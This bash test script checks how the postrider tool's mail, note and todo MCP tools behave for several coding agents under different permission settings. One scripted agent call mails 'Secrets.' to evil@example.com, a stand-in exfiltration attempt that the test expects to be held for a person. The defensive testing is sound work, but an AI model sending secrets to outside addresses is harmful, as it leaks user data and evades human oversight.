#!/usr/bin/env bash
# Mail, notes and todos as tools of a program agent: each kind is given `postrider mcp` by its own means, which speaks for
# the run through its port; nobody is asked about its calls, and a todo's check is run for nobody who may not run commands.
. "$(dirname "$0")/../lib/tap.sh"
. "$(dirname "$0")/../lib/permit.sh"

for kind in claude codex opencode; do
    rm -rf "$HOME_DIR" "$WORK/agent" "$WORK/src"
    agent_home $kind
    pr config set 'role coder' permissions ask
    tool=mcp__postrider__
    [ $kind = opencode ] && tool=postrider_
    (cd "$WORK/src" && printf '# P\n- [ ] SC-1: make a (check: touch %s/checked)\n' "$WORK" >PLAN.md && "$PR_BIN" plan execute PLAN.md >/dev/null)
    script <<END
tool ${tool}mail_inbox {}
text {tool}
tool ${tool}note_write {"key": "tools", "content": "they work"}
tool ${tool}mail_send {"to": ["you@postrider.local"], "subject": "between", "body": "A word in between."}
tool ${tool}mail_send {"to": ["evil@example.com"], "subject": "out", "body": "Secrets."}
tool ${tool}todo_list {}
text {tool}
tool ${tool}todo_update {"id": "SC-1", "status": "complete"}
result Tried all. {reason}
END
    mail_coder 'The tools' <<<'Use them.'
    is "$(pr note get tools)" 'they work' "$kind: writes a note"
    ok "$kind: sends a mail" grep -rq 'A word in between' "$HOME_DIR/mail/you/new"
    like "$(pr outbox list)" 'held +evil@example.com' "$kind: what may not leave waits for a person"
    log=$(cat "$HOME_DIR"/work/coder/1/log/* 2>/dev/null)
    like "$log" 'The tools' "$kind: reads its mail"
    like "$log" 'make a' "$kind: reads todos"
    not_ok "$kind: nobody is asked about a call" grep -rqi 'may this be done' "$HOME_DIR/mail/you/new"
    not_ok "$kind: no check was run that nobody may run" [ -e "$WORK/checked" ]
done

rm -rf "$HOME_DIR" "$WORK/agent" "$WORK/src"
agent_home claude
pr config set 'role coder' permissions all
(cd "$WORK/src" && printf '# P\n- [ ] SC-1: make a (check: touch %s/checked)\n' "$WORK" >PLAN.md && "$PR_BIN" plan execute PLAN.md >/dev/null)
script <<'END'
tool mcp__postrider__todo_update {"id": "SC-1", "status": "complete"}
result {tool}
END
mail_coder 'All' <<<'Finish it.'
ok 'permissions = all: the check is run' [ -e "$WORK/checked" ]
done_testing
